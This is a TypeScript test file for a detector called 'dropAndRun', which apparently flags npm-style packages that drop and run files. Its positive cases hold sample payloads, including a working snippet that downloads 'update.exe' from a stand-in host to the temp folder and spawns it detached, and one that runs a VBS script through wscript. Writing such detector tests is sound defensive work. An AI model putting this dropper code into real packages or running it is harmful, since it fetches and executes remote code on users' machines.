import { installed, loaded, testDetector } from "../../test/test-detector.ts";
import { dropAndRun } from "./index.ts";

testDetector(dropAndRun, {
  fires: {
    "a download in a temporary folder": [
      "strong",
      loaded(`const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
        const { spawn } = require("child_process");
        const target = path.join(os.tmpdir(), "update.exe");
        https.get("https://collector.invalid/update.exe", (answer) => {
          const out = fs.createWriteStream(target);
          answer.pipe(out);
          out.on("finish", () => out.close(() => spawn(target, [], { detached: true, stdio: "ignore" }).unref()));
        });`),
    ],
    "a script in a temporary folder": [
      "strong",
      installed(`const fs = require("fs"), os = require("os");
        const script = os.tmpdir() + "/u.vbs";
        fs.writeFileSync(script, "' nothing");
        require("child_process").exec("wscript //b " + script);`),
    ],
  },
  silent: {
    "a report that is written and a tool that is run": loaded(`const fs = require("fs");
      module.exports = () => { fs.writeFileSync("report.json", "{}"); require("child_process").execSync("git status"); };`),
  },
});
